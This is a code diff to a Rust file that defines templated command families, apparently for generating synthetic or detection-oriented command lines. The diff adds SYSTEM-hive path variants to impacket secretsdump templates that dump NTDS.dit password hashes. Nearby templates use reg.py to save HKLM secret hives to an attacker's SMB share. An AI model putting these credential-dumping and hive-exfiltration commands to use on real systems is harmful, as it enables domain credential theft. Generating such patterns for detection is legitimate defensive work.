@@ -133,9 +133,9 @@ pub const FAMILIES: &[Family] = &[
             "{samcopy}»",
         ))]).weight(20),
     Family::other("secretsdump", "secretsdump-local-ntds", Sh, LOCAL).slots(&[("sd", SDONLY), ("files", concat!(
-            "«⟦-ntds {ntdscopy}¦-system {syscopy}⟧¦⟦-ntds {ntdscopy}¦-bootkey 0x{hex32}⟧¦-system ",
-            "{syscopy} -ntds {ntdscopy}¦-ntds {ntdscopy} -system {syscopy} -user-status -pwd-last-set»",
-        ))]).weight(16),
+            "«⟦-ntds {ntdscopy}¦-system {ks}⟧¦⟦-ntds {ntdscopy}¦-bootkey 0x{hex32}⟧¦-system ",
+            "{ks} -ntds {ntdscopy}¦-ntds {ntdscopy} -system {ks} -user-status -pwd-last-set»",
+        )), ("ks", "«{winsyscopy}¦{shdir}/system¦./SYSTEM¦{stem}/SYSTEM¦system.save¦registry/SYSTEM»")]).weight(16),
     Family::act("reg-py", "impacket-reg-hive", "impacket-reg-other", Sh, REGPY).slots(&[("rp", RP), ("op", concat!(
             r"«backup« -o '\\{attacker}\{share}'»¦save -keyName «'HKLM\{secret}'¦HKLM\\{secret}¦",
             r"'hklm\{secret}'¦HKLM\\SYSTEM» -o «'\\{attacker}\{share}'¦'C:\Windows\Temp'¦",
